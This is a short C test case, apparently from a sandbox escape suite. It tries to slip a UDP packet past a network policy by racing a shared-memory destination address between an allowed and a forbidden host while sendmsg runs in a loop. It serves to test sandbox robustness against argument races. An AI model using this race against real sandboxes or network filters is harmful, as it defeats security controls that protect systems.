// escape: another process changes the bytes of msg_name in memory that both share
// group: argument races
// policy: network
// attempts: 20000
#include "escape.h"

static void attack(void) {
  struct sockaddr_in first = the_friend(), second = stranger();
  struct sockaddr_in* address = shared_memory(sizeof *address);
  *address = first;
  if (beside()) {
    struct flip flip = {&address->sin_addr, &first.sin_addr, &second.sin_addr, 4};
    flip_for_ever(&flip);
  }
  const int fd = udp(AF_INET);
  struct iovec part = {"x", 1};
  struct msghdr message = {
      .msg_name = address, .msg_namelen = sizeof *address, .msg_iov = &part, .msg_iovlen = 1};
  while (more()) sendmsg(fd, &message, 0);
}
